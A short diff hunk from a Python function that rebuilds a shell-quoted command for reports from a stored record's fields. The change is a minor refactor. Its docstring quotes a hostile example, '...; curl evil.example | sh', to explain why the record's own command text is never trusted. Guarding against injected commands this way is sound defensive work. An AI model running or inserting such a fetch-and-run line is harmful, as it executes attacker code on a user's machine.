@@ -129,7 +129,8 @@ def asked_again(record: dict, ref: str) -> str:
     """The command that asks a stored answer's question again of `ref`, rebuilt from the record's fields and each
     word shell-quoted: what a report shows for pasting. Never the record's own `command` text, which is whatever
     the store's writer put there (a hostile one's "...; curl evil.example | sh" would reach a reader's shell)."""
-    a = record.get("answer") if isinstance(record.get("answer"), dict) else {}
+    found = record.get("answer")
+    a: dict = found if isinstance(found, dict) else {}
     mode = "--retrace" if a.get("mode") == "retrace" else "--frozen"
     by = ["--by", str(a["by"])] if a.get("by") in BYS else []
     if record.get("kind") == EXPLANATION:
